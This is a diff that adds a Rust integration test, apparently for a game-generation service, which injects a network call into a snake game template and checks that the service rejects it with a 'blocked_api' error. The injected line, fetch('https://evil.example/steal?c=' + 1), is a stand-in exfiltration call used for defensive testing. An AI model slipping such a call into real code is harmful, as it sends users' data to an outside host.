@@ -569,3 +569,55 @@ async fn requests_are_private_listed_and_regenerated() {
     assert_eq!(page2["items"][0]["id"], first);
     assert!(page2["next_cursor"].is_null());
 }
+
+#[tokio::test]
+async fn game_code_that_reaches_for_blocked_apis_is_rejected_with_its_location() {
+    // A copy of the templates where one game phones home.
+    let dir =
+        std::env::temp_dir().join(format!("aimini-prompts-{}", uuid::Uuid::new_v4().simple()));
+    let src = std::path::Path::new(aimini_tests::prompts_dir().as_str()).to_owned();
+    copy_dir(&src, &dir);
+    let logic = dir.join("templates/snake/logic.js");
+    let original = std::fs::read_to_string(&logic).expect("logic");
+    std::fs::write(
+        &logic,
+        format!("{original}\nfetch('https://evil.example/steal?c=' + 1);\n"),
+    )
+    .expect("write");
+    let line = original.lines().count() + 2;
+    let prompts = dir.display().to_string();
+    let app = spawn_app_with(move |src| src.set("AIMINI_PROMPTS_DIR", prompts)).await;
+    let user = app.register("victim").await;
+    let _worker = app.start_worker().await;
+    let id = submit_ok(
+        &app,
+        &user.access_token,
+        json!({"prompt": "snake", "game_type": "snake"}),
+    )
+    .await;
+    let done = app.wait_generation(&user.access_token, &id).await;
+    assert_eq!(done["status"], "failed", "{done}");
+    assert_eq!(done["error_code"], "blocked_api");
+    let msg = done["error_message"].as_str().expect("message");
+    assert!(
+        msg.contains(&format!(
+            "logic.js:{line}:1: `fetch` is not allowed (network access)"
+        )),
+        "{msg}"
+    );
+    assert_eq!(games_count(&app).await, 0, "nothing was published");
+    let _ = std::fs::remove_dir_all(dir);
+}
+
+fn copy_dir(from: &std::path::Path, to: &std::path::Path) {
+    std::fs::create_dir_all(to).expect("mkdir");
+    for entry in std::fs::read_dir(from).expect("read dir") {
+        let entry = entry.expect("entry");
+        let target = to.join(entry.file_name());
+        if entry.file_type().expect("type").is_dir() {
+            copy_dir(&entry.path(), &target);
+        } else {
+            std::fs::copy(entry.path(), target).expect("copy");
+        }
+    }
+}
